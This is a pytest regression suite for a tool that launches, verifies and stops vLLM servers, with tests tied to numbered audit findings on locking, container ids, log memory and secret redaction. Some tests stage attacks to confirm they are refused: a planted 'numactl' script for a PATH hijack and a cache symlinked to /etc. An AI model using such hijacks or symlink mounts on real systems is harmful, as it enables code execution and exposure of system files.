"""launch.py start: it launches exactly the plan, records its server, and leaves nothing unnamed."""

import json
import os
import re
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest
from conftest import (
    FAKE_SERVER,
    ROOT,
    TOKEN_30,
    _plan_in,
    _plan_with_hf_cache,
    _planned_with_a_cache,
    _run_measuring_memory,
    another_process_holding,
    calls,
    container_plan,
    free_port_plan,
    host_plan,
    load_docs,
    plan_from,
    run_script,
    server_mode,
)
from epyc import cli
from epyc.deployments import serve_state
from epyc.errors import ScriptError


def test_handoff_gives_only_a_running_server_that_passed_its_last_verify(
    script,
    tmp_path,
    inputs,
    live_tune,
):
    """Left by the fifth audit: handoff after a failed verify handed the user an endpoint that did not work."""
    plan_file, _ = host_plan(tmp_path, inputs, live_tune)

    def handoff():
        return script("launch.py", "handoff", "--plan", str(plan_file))

    assert "no server from this plan is running" in handoff().doc["error"]
    server_mode(tmp_path, "wrong_model")
    try:
        assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
        r = handoff()
        assert r.code == 1 and "has not passed verify" in r.doc["error"] and "verify" in r.doc["fix"], r.doc
        assert script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "20").code == 1
        assert "has not passed verify" in handoff().doc["error"]  # failed: still nothing to hand off
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))
    server_mode(tmp_path, "good")
    try:
        assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
        assert script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "20").code == 0
        h = handoff()
        assert h.code == 0 and h.doc["base_url"].endswith("/v1"), h.doc
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))
    r = handoff()
    assert r.code == 1 and "or stopped" in r.doc["error"], r.doc
    server_mode(tmp_path, "exit_early")  # a server that died on its own: its state file is still there
    try:
        assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
        assert script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "20").doc["phase"] == "process"
        r = handoff()
        assert r.code == 1 and "not running (it exited)" in r.doc["error"] and "log" in r.doc["fix"], r.doc
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


def test_a_runtime_whose_logs_never_end_fills_no_memory(script, inputs, rt, tmp_path):
    """The host path reads the log's last 256 KiB; the container path read `docker logs --tail 40` whole."""
    from conftest import container_plan

    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "exited").touch()
    (d / "logs_flood").touch()
    t0 = time.monotonic()
    r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "5", env=env, timeout=120)
    assert r.code == 1 and r.doc["phase"] == "process" and time.monotonic() - t0 < 60, r.doc
    assert sum(map(len, r.doc["log_tail"])) <= 40 * 1000 + 200  # each line shown on its first 1000 characters


def test_programs_are_never_found_through_the_current_folder(
    script,
    tmp_path,
    inputs,
    live_tune,
    monkeypatch,
):
    """PATH='' or '.': a `numactl` in the folder start runs from would have run instead of the system one
    (the summary says `numactl`); with no numactl at all start was an internal error."""
    import os

    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    program = plan["argv"][0]
    assert not program.startswith("/")  # numactl or taskset, as the summary shows it
    planted = tmp_path / program
    planted.write_text(f"#!/bin/sh\ntouch {tmp_path}/planted-ran\n")
    planted.chmod(0o755)
    monkeypatch.chdir(tmp_path)
    for path in (".", "", "/nonexistent"):
        r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env={"PATH": path})
        assert r.code == 1 and "not in any absolute folder of PATH" in r.doc["error"], r.doc
        assert not (tmp_path / "planted-ran").exists()
    from epyc import subproc

    assert subproc.find_program("sh", {"PATH": f".:{os.path.dirname(subproc.find_program('sh'))}"}).startswith("/")
    assert subproc.run(["ls"], timeout=10, env={"PATH": "."}).failure == "not_found"


def test_a_container_kernel_log_is_streamed_not_held(script, inputs, rt, tmp_path):
    """kernel_proof read `docker logs` whole (one string and a list of its lines: 9 GB for a 3 GB log)."""

    from conftest import container_plan

    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "logs_lines").write_text("2000000")  # 100 MB of kernel lines
    code, doc, max_rss_kb = _run_measuring_memory("kernel_proof.py", "--plan", str(plan_file), env=env)
    assert code == 0 and doc["zentorch_matmuls"] == 2_000_000, doc
    assert max_rss_kb < 150_000, f"{max_rss_kb} KB for a 100 MB log"


def test_a_runtime_that_never_exits_after_its_log_is_a_clear_error(script, inputs, rt, tmp_path):
    from conftest import container_plan

    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "logs_hang").touch()
    t0 = time.monotonic()
    r = script("kernel_proof.py", "--plan", str(plan_file), env=env)
    assert r.code == 1 and "did not exit after its output ended" in r.doc["error"], r.doc
    assert time.monotonic() - t0 < 60


def test_a_container_logs_error_shows_the_start_of_a_long_last_line(script, inputs, rt, tmp_path):
    """F5: the error showed the end of a line cut at 64 KiB: a URL's password before its '@'."""
    from epyc.verbs.kernels import LINE_READ_CHARS

    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "logs_text").write_text("Error: " + "x" * (LINE_READ_CHARS - 40) + "https://someone:OtherPassw0rdXYZ@mirror\n")
    (d / "logs_exit").write_text("1")
    r = script("kernel_proof.py", "--plan", str(plan_file), env=env)
    assert r.code == 1 and "Error: xxx" in r.doc["error"] and "OtherPass" not in r.stdout, r.doc


def test_a_cache_that_became_a_link_is_refused_at_plan_and_at_start(script, inputs, rt, tmp_path):
    """F1: a path linking to /etc, written into validate.json or made a link after plan, was mounted (the
    runtime follows links): the folder must be, now, at the very path validate recorded."""
    link = tmp_path / "lnk-etc"
    link.symlink_to("/etc")
    r = _plan_with_hf_cache(script, inputs, rt, tmp_path, str(link))
    assert r.code == 1 and "is /etc now" in r.doc["error"], r.doc
    cache = tmp_path / "hf"
    plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, cache)
    cache.rmdir()
    cache.symlink_to(tmp_path / "st")  # swapped for a link between plan and start
    s = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1])
    assert s.code == 1 and "not the folder validate.py checked" in s.doc["error"], s.doc
    assert not any(c["argv"][0] == "run" for c in calls(rt[0]))


# ---- eighteenth audit (88 cases, 7 findings), on the seventeenth's fixes
def test_stop_works_after_the_hub_cache_changed_under_a_running_server(script, inputs, rt, tmp_path):
    """F1: every verb re-rendered the plan with the cache's content as it is now: a Gradio folder made after
    start made stop refuse the plan, and the container could not be stopped with the tool. Only start
    looks at the disk again; the phase named is the verb's."""
    cache = tmp_path / "hub"
    plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, cache)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1]).code == 0
    (cache / "gradio").mkdir()
    v = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "1", env=rt[1])
    assert "Hugging Face" not in v.stdout, v.doc
    s = script("launch.py", "stop", "--plan", str(plan_file), env=rt[1])
    assert s.code == 0 and s.doc["stopped"], s.doc
    assert [c["argv"][0] for c in calls(rt[0])][-2:] == ["stop", "rm"]
    again = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1])
    assert again.code == 1 and "'gradio'" in again.doc["error"] and again.doc["phase"] == "start", again.doc


def test_stop_and_bench_act_on_a_plan_whose_model_folder_moved(script, inputs, rt, tmp_path):
    """F2, F3a: verbs other than start re-rendered with the model folder as the disk holds it now: a folder
    moved under a running container made stop refuse the plan (the container ran on). They take it, and
    the cache, from the plan; bench too, and a refusal names bench's phase."""
    import shutil

    cache = tmp_path / "hub"
    plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, cache)
    plan = json.loads(plan_file.read_text())
    assert (
        plan["model_dir"] and script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1]).code == 0
    )
    shutil.move(plan["model_dir"], plan["model_dir"] + "-moved")
    (cache / "notes.txt").write_text("x")
    b = script(
        "bench.py",
        "--plan",
        str(plan_file),
        "--input-lens",
        "16",
        "--concurrency",
        "1",
        "--repeats",
        "1",
        "--out",
        str(tmp_path / "bench"),
        env=rt[1],
        timeout=120,
    )
    assert "differs" not in b.stdout and "Hugging Face" not in b.stdout, b.doc
    s = script("launch.py", "stop", "--plan", str(plan_file), env=rt[1])
    assert s.code == 0 and s.doc["stopped"], s.doc


# ---- twentieth audit (~50 cases, 4 findings), on the nineteenth's fixes
def test_bench_compare_looks_at_the_disk_as_start_does(script, inputs, rt, tmp_path):
    """F1: bench's plan check trusts the plan's model folder (for a running server), but --compare starts
    servers: a model link moved since the plan made it serve a folder nobody confirmed. It is refused now."""
    import shutil

    from conftest import plan_args

    real = Path(inputs["model"])
    v1, v2, link = tmp_path / "v1", tmp_path / "v2", tmp_path / "current"
    shutil.copytree(real, v1)
    shutil.copytree(real, v2)
    link.symlink_to(v1)
    for name, script_name, args in (
        ("check", "check_model.py", ["--vllm-version", "0.25.1"]),
        ("estimate", "estimate_memory.py", ["--ram-gb", "384"]),
    ):
        r = script(script_name, "--model", str(link), *args, env=rt[1])
        Path(inputs[name]).write_text(r.stdout)
    r = script("launch.py", *plan_args(inputs, "--state-dir", str(tmp_path / "st")), env=rt[1])
    assert r.code == 0 and r.doc["model_dir"] == str(v1), r.doc
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(r.stdout)
    link.unlink()
    link.symlink_to(v2)
    b = script(
        "bench.py",
        "--plan",
        str(plan_file),
        "--compare",
        "--input-lens",
        "16",
        "--concurrency",
        "1",
        "--repeats",
        "1",
        "--out",
        str(tmp_path / "cmp"),
        env=rt[1],
        timeout=120,
    )
    # refused as reading another folder than the one checked (twenty-second audit), before any comparison
    assert b.code == 1 and f"check_model.py read {v1}" in b.doc["error"] and str(v2) in b.doc["error"], b.doc
    assert b.doc["phase"] == "bench" and not any(c["argv"][0] == "run" for c in calls(rt[0]))


def test_verbs_take_the_model_folder_start_served_not_an_edited_plans(script, inputs, rt, tmp_path):
    """F3: a model_dir edited with the argv to match passed every verb but start; handoff then named a
    model the server does not list. start records the folder it served; the other verbs render with it."""
    plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, tmp_path / "hub")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1]).code == 0
    plan = json.loads(plan_file.read_text())
    assert json.loads(Path(plan["state_file"]).read_text())["model_dir"] == plan["model_dir"]
    from epyc.bundle import load_epyc
    from epyc.deployments import planfile

    forged = json.loads(plan_file.read_text())
    forged["model_dir"] = str(tmp_path)
    fresh = planfile.rerender(forged, load_epyc(), env_from_plan=True, phase="handoff")
    assert fresh["model_dir"] == plan["model_dir"] != forged["model_dir"]  # so refuse_edited refuses it
    assert script("launch.py", "stop", "--plan", str(plan_file), env=rt[1]).code == 0


# ---- the twenty-first audit
def test_an_interrupted_container_start_removes_what_it_launched(script, inputs, rt, tmp_path):
    """F1: a signal during `docker run` (the engine may start the container anyway) left a server and its
    key file with no state: verify said nothing was started, and the fix said to run start again."""
    import signal
    import subprocess
    import time

    from conftest import SECRET, calls, container_plan

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN=SECRET)
    (d / "run_hang").touch()
    proc = subprocess.Popen(
        [sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file), "--confirm"],
        env={**os.environ, **env, "HF_TOKEN": SECRET},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not [c for c in calls(d) if c["argv"][:1] == ["run"]]:
        time.sleep(0.1)
    time.sleep(0.5)
    proc.send_signal(signal.SIGTERM)
    out, _ = proc.communicate(timeout=60)
    doc = json.loads(out)
    assert proc.returncode == 1 and "interrupted before the container" in doc["error"], doc
    assert "start removed it" in doc["error"] and doc["phase"] == "start" and SECRET not in out
    assert calls(d)[-1]["argv"] == ["rm", "-f", plan["container_name"]]
    assert not (tmp_path / "st" / "secrets" / "HF_TOKEN").exists() and not (tmp_path / "st" / "state.json").exists()


def test_a_container_start_that_cannot_remove_what_it_launched_says_so(script, inputs, rt, tmp_path):
    """F3: the clean-up's `rm` result was ignored: with the daemon gone quiet, start said it removed the
    container while it ran on with no state naming it."""
    import signal
    import subprocess

    from conftest import calls, container_plan

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    (d / "run_hang").touch()
    proc = subprocess.Popen(
        [sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file), "--confirm"],
        env={**os.environ, **env},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not [c for c in calls(d) if c["argv"][:1] == ["run"]]:
        time.sleep(0.1)
    (d / "rm_fails").touch()
    proc.send_signal(signal.SIGTERM)
    doc = json.loads(proc.communicate(timeout=90)[0])
    assert proc.returncode == 1 and "could not record it, nor remove it" in doc["error"], doc
    assert "it may be running" in doc["error"] and "removed" not in doc["error"]
    assert doc["fix"].startswith(f"docker rm -f {plan['container_name']}") and doc["interrupted"]


# ---- the twenty-fifth audit (2026-12-03, ~1,290 cases, 1,125 of them forged states: 4 findings, 3 notes;
# the engine ones are in tests/test_docker_engine.py)
def test_start_and_bench_refuse_a_relative_hub_cache_the_server_would_read(script, inputs, live_tune, tmp_path):
    """F4: validate and the Hub reads refused a relative HF_HOME, but start passed it on to the host server,
    which would have looked for (and downloaded) the model under start's own folder."""
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env={"HF_HOME": "relcache"})
    assert r.code == 1 and "HF_HOME is a relative path 'relcache'" in r.doc["error"], r.doc
    assert not os.path.exists(plan["state_file"])  # nothing started
    b = script("bench.py", "--plan", str(plan_file), "--repeats", "1", "--no-bandwidth", env={"HF_HOME": ""})
    assert b.code == 1 and "HF_HOME is empty" in b.doc["error"], b.doc


def test_stop_never_takes_down_a_container_its_state_dir_did_not_start(script, inputs, rt, tmp_path):
    """Noted since the twenty-fourth: a container's name is one per port, not per state dir. Plan B (same
    port, its own state dir, nothing started) stopped plan A's container by that name; and a plan whose
    container another start had replaced stopped the newcomer. stop now asks the engine for the container's
    id first: none recorded here, or another id than the state's, and the container is left alone."""
    d, env = rt
    a_file, a = _plan_in(script, inputs, rt, tmp_path / "a", 18555)
    b_file, b = _plan_in(script, inputs, rt, tmp_path / "b", 18555)
    assert a["container_name"] == b["container_name"]
    assert script("launch.py", "start", "--plan", str(a_file), "--confirm", env=env).code == 0
    before = len(calls(d))
    r = script("launch.py", "stop", "--plan", str(b_file), env=env)
    assert r.code == 1 and "has no record of" in r.doc["error"] and str(tmp_path / "b") in r.doc["error"], r.doc
    assert f"docker stop -t 30 {a['container_name']}" in r.doc["fix"]
    assert not any(c["argv"][0] in ("stop", "rm") for c in calls(d)[before:])
    # nor does B's start remove it (its port may not be bound yet: vLLM takes a minute to listen)
    r = script("launch.py", "start", "--plan", str(b_file), "--confirm", env=env)
    assert r.code == 1 and "is running (id ffffffffffff)" in r.doc["error"] and "no record of" in r.doc["error"], r.doc
    assert not any(c["argv"][0] in ("stop", "rm", "run") for c in calls(d)[before:])
    # and a bench --compare of B reports each sizing not served, never stopping A's container
    r = script(
        "bench.py",
        "--plan",
        str(b_file),
        "--compare",
        "--input-lens",
        "16",
        "--concurrency",
        "1",
        "--repeats",
        "1",
        "--no-bandwidth",
        "--out",
        str(tmp_path / "cmp"),
        env=env,
        timeout=300,
    )
    assert r.code == 1 and "no sizing could be served" in r.doc["error"] and "its stop" in r.doc["fix"], r.doc
    assert not any(c["argv"][0] in ("stop", "rm", "run") for c in calls(d)[before:])
    # another start replaced A's container under the same name (A's own is gone): A's stop leaves it alone
    (d / f"created-{a['container_name']}").write_text("a" * 64)
    assert script("launch.py", "verify", "--plan", str(a_file), "--timeout", "3", env=env).doc["phase"] == "process"
    before = len(calls(d))
    r = script("launch.py", "stop", "--plan", str(a_file), env=env)
    assert r.code == 0 and r.doc["stopped"] is False and r.doc["reason"] == "not running", r.doc
    assert "now is another start's (id aaaaaaaaaaaa, not ffffffffffff): left alone" in r.doc["warnings"][0]
    assert not any(c["argv"][0] in ("stop", "rm") for c in calls(d)[before:])
    assert not (tmp_path / "a" / "state.json").exists()
    # once that one is gone, its own container, recorded: stopped as before
    (d / f"removed-{a['container_name']}").touch()
    assert script("launch.py", "start", "--plan", str(a_file), "--confirm", env=env).code == 0
    r = script("launch.py", "stop", "--plan", str(a_file), env=env)
    assert r.code == 0 and r.doc["stopped"] is True, r.doc


def test_a_start_while_another_up_holds_the_folder_is_refused(script, inputs, live_tune, tmp_path):
    """Twenty-sixth audit, F1: a plain start of an older plan in a folder where an up ran its steps started a
    server, and up's plan.json, written next, named another: no plan could stop it. start refuses while
    another process holds .up.lock (up's own start holds it in the same process: not refused)."""
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    Path(plan["state_dir"]).mkdir(parents=True, exist_ok=True)
    with another_process_holding(str(Path(plan["state_dir"]) / ".up.lock")):
        r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
        assert r.code == 1 and "an up in" in r.doc["error"] and "running its steps" in r.doc["error"], r.doc
        assert not Path(plan["state_file"]).exists()
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
    assert script("launch.py", "stop", "--plan", str(plan_file)).doc["stopped"] is True


def test_a_start_while_stop_waits_for_the_server_is_refused_not_orphaned(script, inputs, live_tune, tmp_path):
    """Twenty-sixth audit, F2: stop held no lock; a start that came in while the server took its time to exit
    wrote its state, and stop then removed that state: a new server ran, named by nothing. stop now holds
    .lock for its whole run. (The fake server's slow_term mode takes 3 s to exit on SIGTERM.)"""
    from epyc.deployments import serve_start, serve_state, serve_stop

    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    (Path(plan["argv"][next(k for k, a in enumerate(plan["argv"]) if a.endswith("/vllm"))]).parent / "mode").write_text(
        "slow_term"
    )
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
    stopping = subprocess.Popen(
        [sys.executable, str(ROOT / "scripts" / "launch.py"), "stop", "--plan", str(plan_file)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        time.sleep(1.5)  # SIGTERM sent; the server still exiting
        r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
        assert r.code == 1 and "or a stop" in r.doc["error"], r.doc
        out, _ = stopping.communicate(timeout=60)
        assert json.loads(out)["stopped"] is True
        assert serve_state.read_state(plan) is None and not serve_start.port_in_use(plan["port"])
    finally:
        if stopping.poll() is None:
            stopping.kill()
        serve_stop.stop(plan)


def test_a_start_whose_run_meets_another_plans_container_leaves_it_running(script, inputs, rt, tmp_path):
    """Twenty-eighth audit, F1: another plan's start on this port (its own state dir) made its container while
    ours pulled; our `run` failed on the name, and its clean-up removed that container by name, ending a
    verified server. A `run` refused on the name created nothing of ours: nothing is removed."""
    from conftest import calls

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    (d / "pull_creates").write_text(plan["container_name"])
    before = len(calls(d))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 1 and "another container took the name" in r.doc["error"], r.doc
    assert r.doc["phase"] == "start" and "another port" in r.doc["fix"]
    made = [c["argv"][0] for c in calls(d)[before:]]
    assert made[-2:] == ["pull", "run"] and "rm" not in made[made.index("pull") :], made  # theirs is left alone
    assert (d / f"created-{plan['container_name']}").read_text() == "a" * 64
    assert not (d / f"removed-{plan['container_name']}").exists() and not (tmp_path / "st" / "state.json").exists()


def test_a_state_file_start_did_not_write_names_no_server(script, inputs, rt, tmp_path):
    """A note of the twenty-eighth audit (and the twenty-ninth's F1): state.json replaced by `{}`, or by a
    container's name without the id every start records, was taken as a
    state: verify wrote its pass into it, handoff handed the server off, and stop acted on the container
    by name as if this state dir had started it. It names no server now: the container is not recorded."""
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    state_file = tmp_path / "st" / "state.json"
    name = plan["container_name"]  # and (the twenty-ninth's F1) a container state of a name and no id of a start
    for edited in (
        {},
        {"primary_endpoint": "chat_completions", "verified_at": time.time()},
        {"path": "container"},
        {"path": "container", "container_name": name, "verified_at": time.time()},
        *({"path": "container", "container_name": name, "container_id": bad} for bad in ("", "zzzz", 12345)),
    ):
        state_file.write_text(json.dumps(edited))
        v = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "5", env=env)
        assert v.code == 1 and "nothing was started from this plan" in v.doc["error"], (edited, v.doc)
        h = script("launch.py", "handoff", "--plan", str(plan_file), env=env)
        assert h.code == 1 and "base_url" not in h.doc, (edited, h.doc)
        s = script("launch.py", "stop", "--plan", str(plan_file), env=env)
        assert s.code == 1 and "has no record of" in s.doc["error"], (edited, s.doc)
        assert json.loads(state_file.read_text()) == edited


def test_a_first_start_cannot_slip_in_while_stop_runs(inputs, live_tune, tmp_path, monkeypatch):
    """A note of the twenty-eighth audit: stop took no lock in a state dir without `.lock` (no start had
    run there yet), so a first start during it was recorded and then had its state removed by stop. stop
    makes the lock file now and holds it: the start is refused until stop is done."""
    from epyc.deployments import serve_stop

    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    Path(plan["state_dir"]).mkdir(parents=True, exist_ok=True)
    assert not (Path(plan["state_dir"]) / ".lock").exists()
    seen = {}
    real = serve_stop._stop_locked

    def stop_with_a_start_arriving(p):
        seen["start"] = run_script("launch.py", "start", "--plan", str(plan_file), "--confirm", timeout=120)
        return real(p)

    monkeypatch.setattr(serve_stop, "_stop_locked", stop_with_a_start_arriving)
    assert serve_stop.stop(plan)["stopped"] is False
    start = seen["start"]
    assert start.code == 1 and "another start, or a stop" in start.doc["error"], start.doc
    assert not Path(plan["state_file"]).exists()


def test_up_reports_verifys_failure_when_its_own_stop_is_refused(script, inputs, rt, tmp_path, monkeypatch):
    """Twenty-ninth audit, F2: up stops what it started when verify fails; once stop could refuse (a runtime
    that does not say which container has the name), its refusal replaced verify's verdict, with no plan
    file and nothing saying the server may still run. Verify's failure stays the error now, with the
    refusal beside it and the command that stops the server."""
    from epyc.errors import ScriptError
    from epyc.verbs import up

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "inspect_fails").touch()
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    with pytest.raises(ScriptError) as err:
        up.verify_or_stop(plan, plan_file, 3, 3)
    failure = err.value
    assert failure.extra["phase"] in ("process", "health", "models", "smoke"), failure.as_json()
    assert failure.extra["plan_file"] == str(plan_file) and failure.extra["stopped"]["stopped"] is False
    assert "did not say whether a container named" in failure.extra["stopped"]["refused"]
    assert "up could NOT stop the server it had started" in failure.fix and f"--plan {plan_file}" in failure.fix
    assert (tmp_path / "st" / "state.json").exists()  # the running server stays named


def test_start_records_the_containers_id_even_when_run_does_not_print_it(script, inputs, rt, tmp_path):
    """A state names its container by id (the twenty-ninth's F1: by name alone it could be anyone's). A
    `run` that printed something else has the id asked of the runtime; none at all is a failed start."""
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    (d / "run_quiet").touch()
    (d / "next_id").write_text("b" * 64)
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 0 and r.doc["container_id"] == "b" * 64, r.doc
    assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True
    (d / "next_id").write_text("not-an-id")
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 1 and "printed no container id, and inspect named none" in r.doc["error"], r.doc
    assert (d / f"removed-{plan['container_name']}").exists() and not (tmp_path / "st" / "state.json").exists()


def test_a_runtime_that_does_not_answer_is_never_read_as_a_server_that_exited(script, inputs, rt, tmp_path):
    """The review of the twenty-eighth's fixes: an `inspect` that did not answer read as "not running": verify
    failed a healthy server as "exited" (and up then stopped it), handoff called it gone, and start or up
    could write over the state of a server that may run. Now verify asks again on its next poll, handoff
    refuses, and a state whose container cannot be asked about counts as running."""
    from epyc.deployments import serve_state

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "inspect_fails").touch()
    v = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "3", env=env)
    assert v.code == 1 and v.doc["phase"] != "process" and "exited" not in v.doc["error"], v.doc
    h = script("launch.py", "handoff", "--plan", str(plan_file), env=env)
    assert h.code == 1 and "did not say whether a container named" in h.doc["error"], h.doc
    again = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert again.code == 1 and "did not say whether it runs, so it may" in again.doc["error"], again.doc
    assert serve_state.read_state(plan)["container_id"] == "f" * 64  # the state is kept
    (d / "inspect_fails").unlink()
    assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True


def test_a_refused_run_leaves_a_running_container_of_its_name_alone(script, inputs, rt, tmp_path):
    """The review of the twenty-eighth's fixes: docker checks a run's cpusets and mounts before it takes the
    name, so a run refused so (not on the name) created nothing, and the running container of its name,
    made by another plan's start during our pull, was removed by the clean-up. It is left alone."""
    from conftest import calls

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    (d / "pull_creates").write_text(plan["container_name"])
    (d / "cpuset_rejected").touch()
    before = len(calls(d))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 1 and "cgroup controller `cpuset`" in r.doc["error"], r.doc
    assert "is not this start's: left alone" in r.doc["error"]
    made = [c["argv"][0] for c in calls(d)[before:]]
    assert "rm" not in made[made.index("run") :] and not (d / f"removed-{plan['container_name']}").exists(), made


def test_a_log_found_in_the_state_dir_is_0600_after_start(script, tmp_path, inputs, live_tune):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    Path(plan["state_dir"]).mkdir(parents=True)
    Path(plan["log_file"]).write_text("an old run's line\n")
    os.chmod(plan["log_file"], 0o644)
    try:
        assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
        assert stat.S_IMODE(os.stat(plan["log_file"]).st_mode) == 0o600
        assert "an old run's line" not in Path(plan["log_file"]).read_text()
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


# ---- F2: start's leftover removal ran by name even when the runtime had shown no container
def test_start_removes_only_an_exited_leftover_and_by_its_id(script, inputs, rt, tmp_path):
    """A slow daemon held one start's `rm -f NAME` while another plan's start on the port ran its container:
    the late rm ended that server. start removes nothing when inspect showed no container, and a leftover
    only by the id inspect gave."""
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    name = plan["container_name"]
    before = len(calls(d))
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    made = [c["argv"] for c in calls(d)[before:]]
    assert [a[0] for a in made if a[0] in ("inspect", "rm", "run")] == ["inspect", "run"], made
    assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True
    (d / f"removed-{name}").unlink(missing_ok=True)  # an exited leftover of the name, not removed
    (d / f"created-{name}").write_text("c" * 64)
    (d / "exited").touch()
    (d / "next_id").write_text("b" * 64)
    before = len(calls(d))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 0 and r.doc["container_id"] == "b" * 64, r.doc
    removals = [c["argv"] for c in calls(d)[before:] if c["argv"][0] == "rm"]
    assert removals == [["rm", "-f", "c" * 64]], removals


def test_stop_stops_and_removes_the_container_by_the_id_it_judged(script, inputs, rt, tmp_path):
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    before = len(calls(d))
    assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True
    acted = [c["argv"] for c in calls(d)[before:] if c["argv"][0] in ("stop", "rm")]
    assert [a[-1] for a in acted] == ["f" * 64, "f" * 64], acted
    # gone already (removed by hand): nothing is sent by name, which another start may have taken meanwhile
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / f"removed-{plan['container_name']}").touch()
    before = len(calls(d))
    s = script("launch.py", "stop", "--plan", str(plan_file), env=env)
    assert s.code == 0 and s.doc["stopped"] is False and s.doc["reason"] == "not running", s.doc
    assert [c["argv"][0] for c in calls(d)[before:]] == ["inspect"] and not Path(plan["state_file"]).exists()


def test_a_refused_run_that_made_nothing_removes_nothing(script, inputs, rt, tmp_path):
    """The review of the fixes: after a `run` refused on a cpuset or a mount (docker creates nothing), the
    clean-up still ran `rm -f NAME`: the same late removal by name the audit found before `run`."""
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN=TOKEN_30)
    (d / "cpuset_rejected").touch()
    before = len(calls(d))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env={**env, "HF_TOKEN": TOKEN_30})
    assert r.code == 1 and "cgroup controller `cpuset`" in r.doc["error"], r.doc
    made = [c["argv"][0] for c in calls(d)[before:]]
    assert "rm" not in made, made
